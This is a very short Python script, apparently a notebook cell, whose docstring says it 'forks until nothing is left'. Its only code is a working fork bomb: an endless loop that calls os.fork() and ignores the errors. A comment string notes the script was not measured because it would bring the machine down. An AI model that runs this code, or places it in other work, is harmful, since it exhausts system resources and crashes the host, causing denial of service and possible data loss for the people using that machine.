"""Forks until nothing is left."""

STOCK = "not measured: it would take the machine down"

# %% first
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
